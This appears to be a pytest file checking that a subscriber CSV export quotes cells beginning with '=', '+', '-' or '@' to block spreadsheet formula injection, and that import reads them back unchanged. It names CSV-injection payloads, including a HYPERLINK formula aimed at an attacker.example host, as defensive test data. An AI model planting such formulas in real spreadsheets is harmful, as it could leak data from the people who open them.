"""`backline subscribers export` writes no cell a spreadsheet would run, and reads back its own.

Failure modes named here: names, emails, plans and regions starting with `=`, `+`, `-`, `@`, a tab
or a carriage return (OWASP's CSV injection: `=HYPERLINK(…)`, `=cmd|…`) are quoted on export;
E.164 numbers stay numbers; a value that already starts with a quote keeps it through the round
trip; and a hand-made file whose numbers a spreadsheet quoted still imports.
"""

from __future__ import annotations

from typing import Any

from sqlalchemy import delete, select

from app.core.extensions import db
from app.models import Subscriber
from tests.app.subscribers_csv_helpers import (
    FORMULA_SUBSCRIBERS,
    HEADER,
    assert_no_formula_cells,
    fresh,
)
from tests.conftest import Invoke


def stored() -> list[tuple[Any, ...]]:
    db.session.expire_all()
    return [
        (s.number, s.name, s.emails, s.plan, s.region, s.backup_number)
        for s in db.session.scalars(select(Subscriber).order_by(Subscriber.number))
    ]


def test_formula_cells_are_quoted_on_export_and_read_back_as_they_were(
    cli: Invoke, write_csv: Any, subscriber: Any
) -> None:
    for fields in FORMULA_SUBSCRIBERS:
        subscriber(**fields)
    before = stored()

    exported = cli("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    assert_no_formula_cells(exported.stdout)
    assert '\n+14155550100,"\'=HYPERLINK(""http://attacker.example/' in exported.stdout
    assert ",''=already quoted by someone," in exported.stdout

    db.session.execute(delete(Subscriber))
    db.session.commit()
    imported = cli("subscribers", "import", str(write_csv(exported.stdout)))

    assert imported.exit_code == 0, imported.output
    # Surrounding whitespace is dropped on import as ever; everything else comes back.
    assert stored() == [
        (number, name, emails, plan, region.strip(), backup)
        for number, name, emails, plan, region, backup in before
    ]
    again = cli("subscribers", "export").stdout
    assert_no_formula_cells(again)
    db.session.execute(delete(Subscriber))
    db.session.commit()
    assert cli("subscribers", "import", str(write_csv(again))).exit_code == 0
    assert cli("subscribers", "export").stdout == again  # from here on, nothing changes


def test_numbers_a_spreadsheet_quoted_are_still_numbers(cli: Invoke, write_csv: Any) -> None:
    path = write_csv(f"{HEADER}\n'+1 415 555 0100,Acme,ops@acme.example,,,'+14155550199,,\n")

    result = cli("subscribers", "import", str(path))

    assert result.exit_code == 0, result.output
    acme = fresh("+14155550100")
    assert acme is not None and acme.backup_number == "+14155550199"
